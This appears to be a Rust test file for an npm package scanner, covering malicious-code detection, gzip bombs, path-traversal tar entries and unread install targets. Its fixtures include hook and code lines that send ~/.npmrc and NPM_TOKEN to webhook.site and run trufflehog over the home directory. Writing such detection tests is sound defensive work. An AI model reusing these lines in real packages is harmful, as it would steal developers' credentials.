    let m2 = json!({"name": "helper", "version": "0.0.2", "main": "lib/index.js"});
    let f2 = scan_code(&pkg(&m2, &[("lib/index.js", CRED_EXFIL)]));
    assert!(
        has(&f2, "code.credential-read", "error", Some("lib/index.js")),
        "{f2:#?}"
    );
    // The hook command itself: curl posting ~/.npmrc to a capture host.
    let m3 = json!({"name": "helper", "version": "0.0.3", "scripts": {"preinstall": "curl -s -d @$HOME/.npmrc https://webhook.site/abc"}});
    let f3 = scan_code(&pkg(&m3, &[]));
    assert!(
        has(
            &f3,
            "code.webhook-exfiltration",
            "error",
            Some("package.json#scripts.preinstall")
        ),
        "{f3:#?}"
    );
    assert!(
        has(
            &f3,
            "code.credential-read",
            "error",
            Some("package.json#scripts.preinstall")
        ),
        "{f3:#?}"
    );
}

// Negative tests: each check alone must not fire (or stays below error).

#[test]
fn single_signals_stay_quiet() {
    let m = json!({"name": "ok", "version": "1.0.0", "main": "index.js"});
    let cases: &[(&str, &str)] = &[
        // A CLI: child_process + https + process.env in the entry point → at most info.
        ("cli", "const cp = require('child_process'); const https = require('https'); const p = process.env.PATH; https.get('https://example.com'); cp.spawn('git');"),
        // Credential names without any network or process access.
        ("cred-only", "const fs = require('fs'); const f = require('path').join(require('os').homedir(), '.npmrc'); module.exports = fs.existsSync(f);"),
        // eval without decoding; decoding without eval.
        ("eval-only", "module.exports = function (s) { return eval(s); };"),
        ("decode-only", "module.exports = (s) => Buffer.from(s, 'base64').toString('utf8');"),
        // A few _0x names are not obfuscation.
        ("few-hex", "var _0x1a2b = 1, _0x3c4d = 2; module.exports = _0x1a2b + _0x3c4d;"),
        // Hashing hex near eval-like words in comments is not decoding.
        ("digest", "const h = require('crypto').createHash('sha256').update(x).digest('hex'); // eval later\n"),
        // window.ethereum without hooks (a dapp helper).
        ("dapp", "export async function connect() { return window.ethereum.request({ method: 'eth_requestAccounts' }); }"),
        // A discord webhook URL alone in a non-install file.
        ("discord", "export const DOCS = 'https://discord.com/api/webhooks/{id}/{token}';"),
        // Inline source map (long base64 after data:).
        ("sourcemap", "module.exports=1;\n//# sourceMappingURL=data:application/json;charset=utf-8;base64,"),
    ];
    for (name, code) in cases {
        let code = if *name == "sourcemap" {
            format!(
                "{code}{}",
                b64(&(0..3000u32)
                    .map(|i| (i * 7919 % 251) as u8)
                    .collect::<Vec<_>>())
            )
        } else {
            code.to_string()
        };
        let f = scan_code(&pkg(&m, &[("index.js", &code)]));
        assert!(f.iter().all(|f| f.severity == "info"), "{name}: {f:#?}");
    }
}

// ---------------------------------------------------------------------------------------------
// Hostile archives
// ---------------------------------------------------------------------------------------------

fn manifest_bytes() -> Vec<u8> {
    br#"{"name":"t","version":"1.0.0"}"#.to_vec()
}

#[test]
fn gzip_bomb_stops_at_the_limit() {
    // A tar entry of 64 MiB of zeros: ~64 KiB compressed. Limit 8 MiB.
    let mut g = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    let mut h = tar::Header::new_gnu();
    h.set_path("package/zeros.bin").unwrap();
    h.set_size(64 << 20);
    h.set_mode(0o644);
    h.set_cksum();
    g.write_all(h.as_bytes()).unwrap();
    let chunk = vec![0u8; 1 << 20];
    for _ in 0..64 {
        g.write_all(&chunk).unwrap();
    }
    let bomb = g.finish().unwrap();
    assert!(bomb.len() < 1 << 20, "{}", bomb.len());
    let limits = Limits {
        max_uncompressed: 8 << 20,
        ..Limits::default()
    };
    let t = Instant::now();
    let e = read(&bomb, &limits).unwrap_err();
    assert!(matches!(e, Error::TooLarge(_)), "{e:?}");
    assert_eq!(e.code(), "ERR_PROV_TOO_LARGE");
    assert!(t.elapsed() < Duration::from_secs(5));
    // Compressed size limit.
    let small = Limits {
        max_compressed: 100,
        ..Limits::default()
    };
    assert!(matches!(read(&bomb, &small), Err(Error::TooLarge(_))));
}

#[test]
fn gzip_bomb_default_limit() {
    // 300 MiB of zeros, compressed over 1,000:1: npm (node-tar) aborts such a stream, and so
    // does the reader, with a coded error, quickly, without holding what it inflated.
    let mut g = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    let mut h = tar::Header::new_gnu();
    h.set_path("package/zeros.bin").unwrap();
    h.set_size(300 << 20);
    h.set_mode(0o644);
    h.set_cksum();
    g.write_all(h.as_bytes()).unwrap();
    let chunk = vec![0u8; 1 << 20];
    for _ in 0..300 {
        g.write_all(&chunk).unwrap();
    }
    let bomb = g.finish().unwrap();
    let t = Instant::now();
    let e = read(&bomb, &Limits::default()).unwrap_err();
    assert!(
        e.to_string().contains("max decompression ratio exceeded"),
        "{e:?}"
    );
    assert_eq!(e.code(), "ERR_PROV_INVALID_ARG");
    assert!(t.elapsed() < Duration::from_secs(10));
}

#[test]
fn too_many_entries() {
    let m = manifest_bytes();
    let names: Vec<String> = (0..150).map(|i| format!("f{i}.txt")).collect();
    let mut entries = vec![E::File("package.json", &m)];
    entries.extend(names.iter().map(|n| E::File(n, b"x")));
    let t = gz(&tar_bytes(&entries));
    let limits = Limits {
        max_entries: 100,
        ..Limits::default()
    };
    let e = read(&t, &limits).unwrap_err();
    assert!(matches!(e, Error::TooLarge(_)), "{e:?}");
    assert!(read(&t, &Limits::default()).is_ok());
}

#[test]
fn unsafe_entries_are_skipped() {
    let m = manifest_bytes();
    let t = gz(&tar_bytes(&[
        E::File("package.json", &m),
        E::Raw(
            b"package/../../escape.js",
            tar::EntryType::Regular,
            b"",
            b"evil()",
        ),
        E::Raw(b"../../x", tar::EntryType::Regular, b"", b"evil()"),
        E::Raw(b"/etc/cron.d/x", tar::EntryType::Regular, b"", b"evil()"),
        E::Raw(
            b"package/link.js",
            tar::EntryType::Symlink,
            b"/etc/passwd",
            b"",
        ),
        E::Raw(
            b"package/hard.js",
            tar::EntryType::Link,
            b"package/package.json",
            b"",
        ),
        E::Raw(b"package/fifo", tar::EntryType::Fifo, b"", b""),
        E::Raw(b"toplevel.js", tar::EntryType::Regular, b"", b"x"),
        E::File("ok.js", b"module.exports = 1;"),
        E::File("ok.js", b"module.exports = 2;"),
    ]));
    let p = read(&t, &Limits::default()).unwrap();
    // npm (node-tar, `strip: 1`) drops the empty first component of `/etc/cron.d/x`: it lands
    // inside the package, at `etc/cron.d/x`.
    let paths: Vec<&str> = p.files.iter().map(|f| f.path.as_str()).collect();
    assert_eq!(paths, vec!["package.json", "etc/cron.d/x", "ok.js"]);
    // The later duplicate wins, as on extraction.
    assert_eq!(p.text("ok.js"), Some("module.exports = 2;"));
    let reasons: Vec<&str> = p.anomalies.iter().map(|a| a.reason.as_str()).collect();
    assert_eq!(
        reasons,
        vec![
            "symlink",
            "hardlink",
            "special-file",
            "path-traversal",
            "path-traversal",
            "absolute-path",
            "outside-package-dir",
            "duplicate"
        ]
    );
    // Nothing was written anywhere.
    assert!(!std::path::Path::new("/etc/cron.d/x").exists());
    assert!(!PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("../escape.js")
        .exists());
}

#[test]
fn malformed_inputs_give_coded_errors() {
    let m = manifest_bytes();
    let good = gz(&tar_bytes(&[E::File("package.json", &m)]));
    // Not gzip.
    assert!(matches!(
        read(b"PK\x03\x04 not a tarball at all", &Limits::default()),
        Err(Error::InvalidArg(_))
    ));
    assert!(matches!(
        read(b"", &Limits::default()),
        Err(Error::InvalidArg(_))
    ));
    // Gzip but not tar: the tar reader finds no package.json (or a bad header).
    let e = read(
        &gz(b"hello world, this is not a tar archive"),
        &Limits::default(),
    )
    .unwrap_err();
    assert!(matches!(e, Error::InvalidArg(_)), "{e:?}");
    // Truncated.
    for cut in [10, 20, good.len() / 2, good.len() - 9] {
        let e = read(&good[..cut], &Limits::default()).unwrap_err();
        assert!(
            matches!(e, Error::InvalidArg(_) | Error::TooLarge(_)),
            "{cut}: {e:?}"
        );
    }
    // No package.json; package.json not JSON; not an object; with a BOM (accepted).
    let other = gz(&tar_bytes(&[E::File("index.js", b"1")]));
    assert!(matches!(
        read(&other, &Limits::default()),
        Err(Error::InvalidArg(_))
    ));
    let bad = gz(&tar_bytes(&[E::File("package.json", b"{ nope")]));
    let e = read(&bad, &Limits::default()).unwrap_err();
    assert_eq!(e.code(), "ERR_PROV_JSON");
    let arr = gz(&tar_bytes(&[E::File("package.json", b"[1]")]));
    assert!(matches!(
        read(&arr, &Limits::default()),
        Err(Error::InvalidArg(_))
    ));
    let bom = gz(&tar_bytes(&[E::File(
        "package.json",
        "\u{feff}{\"name\":\"b\"}".as_bytes(),
    )]));
    assert_eq!(
        read(&bom, &Limits::default()).unwrap().manifest["name"],
        "b"
    );
    // Deeply nested JSON: serde's recursion limit, an error.
    let deep = format!("{}{}", "[".repeat(10_000), "]".repeat(10_000));
    let deep = gz(&tar_bytes(&[E::File("package.json", deep.as_bytes())]));
    assert!(read(&deep, &Limits::default()).is_err());
}

#[test]
fn mutated_real_tarballs_never_panic() {
    let mut seed = 0x9e3779b97f4a7c15u64;
    let mut rnd = || {
        seed ^= seed << 13;
        seed ^= seed >> 7;
        seed ^= seed << 17;
        seed
    };
    for name in ["gundam-visor-1.0.1.tgz", "sigstore-2.2.0.tgz"] {
        let orig = std::fs::read(shared("tarballs").join(name)).unwrap();
        // Mutate the inflated tar too (headers, sizes, names), then recompress.
        let mut tar_plain = Vec::new();
        std::io::Read::read_to_end(&mut flate2::read::GzDecoder::new(&orig[..]), &mut tar_plain)
            .unwrap();
        for i in 0..400 {
            let mut t = if i % 2 == 0 {
                orig.clone()
            } else {
                tar_plain.clone()
            };
            for _ in 0..1 + rnd() % 8 {
                let at = (rnd() as usize) % t.len();
                t[at] = rnd() as u8;
            }
            if rnd() % 5 == 0 {
                let keep = (rnd() as usize) % t.len();
                t.truncate(keep.max(1));
            }
            let input = if i % 2 == 0 { t } else { gz(&t) };
            if let Ok(p) = read(&input, &Limits::default()) {
                let _ = manifest_confusion_package(&p.manifest.clone(), &p);
                let _ = scan_code(&p);
                let _ = unread_files(&p);
                let _ = TarballHooks::of(&p);
            }
        }
    }
}

#[test]
fn second_pass_and_multi_member_gzip() {
    // A bin without extension listed before package.json: read in a second pass.
    let m = br#"{"name":"tool","version":"1.0.0","bin":{"tool":"bin/tool"}}"#;
    let t = gz(&tar_bytes(&[
        E::File(
            "bin/tool",
            b"#!/usr/bin/env node\nrequire('child_process').exec('curl https://webhook.site/x')\n",
        ),
        E::File("package.json", m),
    ]));
    let p = read(&t, &Limits::default()).unwrap();
    assert!(p.text("bin/tool").is_some());
    assert!(has(
        &scan_code(&p),
        "code.webhook-exfiltration",
        "error",
        Some("bin/tool")
    ));
    // Node's gunzip (npm) reads concatenated gzip members: so does the reader.
    let first = tar_bytes(&[E::File("package.json", &manifest_bytes())]);
    let first = &first[..first.len() - 1024]; // drop the end-of-archive blocks
    let second = tar_bytes(&[E::File(
        "hidden.js",
        b"require('https');fetch('https://webhook.site/y')",
    )]);
    let mut two = gz(first);
    two.extend(gz(&second));
    let p = read(&two, &Limits::default()).unwrap();
    assert!(p.has_file("hidden.js"), "{:?}", p.files);
    // Bytes after the end-of-archive blocks are noted (and never read as entries).
    let mut tail = tar_bytes(&[E::File("package.json", &manifest_bytes())]);
    tail.extend_from_slice(b"payload hidden after the end of the archive");
    let p = read(&gz(&tail), &Limits::default()).unwrap();
    assert_eq!(
        p.anomalies.last().map(|a| a.reason.as_str()),
        Some("data-after-end-of-archive")
    );
}

#[test]
fn other_package_dir_name_and_text_caps() {
    // Old tarballs use another top directory name: stripped whatever it is.
    let m = manifest_bytes();
    let t = gz(&tar_bytes(&[
        E::Raw(b"node-foo/package.json", tar::EntryType::Regular, b"", &m),
        E::Raw(
            b"node-foo/big.js",
            tar::EntryType::Regular,
            b"",
            &[b'a'; 5000],
        ),
        E::Raw(
            b"node-foo/bin.js",
            tar::EntryType::Regular,
            b"",
            b"\0\x01\x02binary",
        ),
    ]));
    let limits = Limits {
        max_file: 4096,
        ..Limits::default()
    };
    let p = read(&t, &limits).unwrap();
    assert_eq!(p.root, "node-foo");
    assert!(p.has_file("big.js") && p.text("big.js").is_none());
    assert!(p.text("bin.js").is_none());
    let reasons: Vec<&str> = p.anomalies.iter().map(|a| a.reason.as_str()).collect();
    assert_eq!(reasons, vec!["too-large-to-read", "binary"]);
    // Serialises as plain camelCase data (texts are not serialised).
    let v = serde_json::to_value(&p).unwrap();
    assert!(v.get("hasBindingGyp").is_some() && v.get("texts").is_none());
    let f = serde_json::to_value(scan_code(&p)).unwrap();
    assert!(f.is_array());
    // Each file says why its text was not kept.
    let why: Vec<(&str, Option<&str>)> = p
        .files
        .iter()
        .map(|f| (f.path.as_str(), f.unread))
        .collect();
    assert_eq!(
        why,
        [
            ("package.json", None),
            ("big.js", Some("too-large-to-read")),
            ("bin.js", Some("binary"))
        ]
    );
}

// ---------------------------------------------------------------------------------------------
// Files the reader did not keep
// ---------------------------------------------------------------------------------------------

/// SYNTHETIC package whose entry point, install-script target and another file are each over
/// a (small, for the test) per-file cap, plus a file over the total text budget.
#[test]
fn unread_entry_points_and_install_targets_are_findings() {
    let big = "x".repeat(3000);
    let m = json!({
        "name": "big", "version": "1.0.0", "main": "lib/index",
        "bin": { "big": "bin/cli.js" },
        "scripts": { "postinstall": "node ./setup.js" }
    });
    let bytes = tgz(
        &m,
        &[
            ("lib/index.js", &big),
            ("setup.js", &big),
            ("other.js", &big),
            ("bin/cli.js", "console.log(1)\n"),
            ("small.js", "1\n"),
        ],
    );
    let limits = Limits {
        max_file: 1000,
        ..Limits::default()
    };
    let p = read(&bytes, &limits).unwrap();
    let (findings, others) = unread_files(&p);
    let got: Vec<(&str, &str)> = findings
        .iter()
        .map(|f| (f.file.as_deref().unwrap(), f.severity.as_str()))
        .collect();
    assert_eq!(
        got,
        [("lib/index.js", "warning"), ("setup.js", "error")],
        "{findings:?}"
    );
    assert!(findings.iter().all(|f| f.rule == "code.unread"));
    assert!(findings[1].evidence.starts_with(
        "install-script target setup.js (3000 bytes) was not read, over the per-file read cap"
    ));
    assert!(findings[0].evidence.starts_with("entry point lib/index.js"));
    assert_eq!(others, ["other.js (too-large-to-read)"]);
    // The text budget: everything after it is unread; the entry point among them is a finding.
    let limits = Limits {
        max_text_total: 3500,
        ..Limits::default()
    };
    let bytes = tgz(&m, &[("other.js", &big), ("lib/index.js", &big)]);
    let p = read(&bytes, &limits).unwrap();
    let (findings, others) = unread_files(&p);
    assert_eq!(findings.len(), 1, "{findings:?} {others:?}");
    assert!(findings[0]
        .evidence
        .contains("over the package's text budget"));
    // Nothing unread: nothing to say.
    let p = read(&tgz(&m, &[("lib/index.js", "1\n")]), &Limits::default()).unwrap();
    assert_eq!(unread_files(&p), (Vec::new(), Vec::new()));
}

#[test]
fn deep_require_chains_are_followed_and_wide_files_are_said() {
    // SYNTHETIC: an entry point that requires a chain of 5,100 files, one from the next, the
    // last with a Shai-Hulud-style line: reached, so judged as entry-point code.
    let n = 5100;
    let texts: Vec<(String, String)> = (0..n)
        .map(|i| {
            let body = if i + 1 < n {
                format!("require('./f{}.js')\n", i + 1)
            } else {
                "require('child_process').execSync('trufflehog filesystem ~'); fetch('https://webhook.site/x', { method: 'POST', body: process.env.NPM_TOKEN })\n".to_string()
            };
            (format!("f{i}.js"), body)
        })
        .collect();
    let files: Vec<(&str, &str)> = texts
        .iter()
        .map(|(a, b)| (a.as_str(), b.as_str()))
        .collect();
    let p = pkg(
        &json!({"name": "deep", "version": "1.0.0", "main": "f0.js"}),
        &files,
    );
    let f = scan_code(&p);
    let last = format!("f{}.js", n - 1);
    assert!(
        f.iter()
            .any(|x| x.file.as_deref() == Some(last.as_str()) && x.severity == "error"),
        "{f:?}"
    );
    assert!(!f.iter().any(|x| x.rule == "code.reach"), "{f:?}");
    // An install script that names 600 files: what it names past 500 is not followed, and
    // that is a warning, not silence.
    let wide: String = (0..600)
        .map(|i| format!("require('./w{i}.js');\n"))
        .collect();
    let mut files: Vec<(String, String)> = vec![("install.js".into(), wide)];
    files.extend((0..600).map(|i| (format!("w{i}.js"), "module.exports = 1\n".to_string())));
    let refs: Vec<(&str, &str)> = files
        .iter()
        .map(|(a, b)| (a.as_str(), b.as_str()))
        .collect();
    let p = pkg(
        &json!({"name": "wide", "version": "1.0.0", "scripts": {"postinstall": "node install.js"}}),
        &refs,
    );
    let f = scan_code(&p);
    assert!(
        f.iter().any(|x| x.rule == "code.reach"
            && x.severity == "warning"
            && x.file.as_deref() == Some("install.js")),
        "{f:?}"
    );
    // Repeating one specifier does not push another past the cap.
    let mut entry = "require('./b');\n".repeat(600);
    entry.push_str("require('./evil');\n");
    let evil = "require('child_process').execSync('trufflehog filesystem ~'); fetch('https://webhook.site/x', { method: 'POST', body: process.env.NPM_TOKEN })\n";
    let p = pkg(
        &json!({"name": "rep", "version": "1.0.0", "main": "index.js"}),
        &[("index.js", &entry), ("b.js", "1\n"), ("evil.js", evil)],
    );
    let f = scan_code(&p);
    assert!(!f.iter().any(|x| x.rule == "code.reach"), "{f:?}");
    assert!(
        f.iter()
            .any(|x| x.file.as_deref() == Some("evil.js") && x.severity == "error"),
        "{f:?}"
    );
}

#[test]
fn hook_targets_resolve_like_node() {
    // SYNTHETIC: install targets Node would run that are not plain `.js` paths: a directory
    // whose package.json names a binary-named main, and `--require=` values. Neither is text
    // the scan can read, so each is a code.unread finding, not a silent pass.
    let bin = "\u{0}\u{1}binary";
    let p = pkg(
        &json!({"name": "hooks", "version": "1.0.0", "scripts": {
            "preinstall": "node lib",
            "install": "NODE_OPTIONS=--require=./env.dat node setup.js",
            "postinstall": "node --require=./pre.dat setup.js"
        }}),
        &[
            // Node runs `main` before it looks for an index.
            ("lib/package.json", r#"{"main": "x.dat"}"#),
            ("lib/index.js", "module.exports = 1\n"),
            ("lib/x.dat", bin),
            ("pre.dat", bin),
            ("env.dat", bin),
            ("setup.js", "module.exports = 1\n"),
        ],
    );
    let (findings, _) = unread_files(&p);
    let got: Vec<&str> = findings.iter().filter_map(|f| f.file.as_deref()).collect();
    assert!(got.contains(&"lib/x.dat"), "{findings:?}");
    assert!(got.contains(&"pre.dat"), "{findings:?}");
    assert!(got.contains(&"env.dat"), "{findings:?}");
    assert!(findings
        .iter()
        .all(|f| f.rule == "code.unread" && f.severity == "error"));
    // A directory whose package.json is over the per-file cap: that file is reported.
    let big = format!("{{\"main\": \"x.js\", \"pad\": \"{}\"}}", "x".repeat(3000));
    let bytes = tgz(
        &json!({"name": "hooks", "version": "1.0.0", "scripts": {"postinstall": "node lib"}}),
        &[("lib/package.json", &big), ("lib/x.js", "1\n")],
    );
    let p = read(
        &bytes,
        &Limits {
            max_file: 1000,
            ..Limits::default()
        },
    )
    .unwrap();
    let (findings, _) = unread_files(&p);
    assert!(
        findings
            .iter()
            .any(|f| f.file.as_deref() == Some("lib/package.json") && f.severity == "error"),
        "{findings:?}"
    );
}
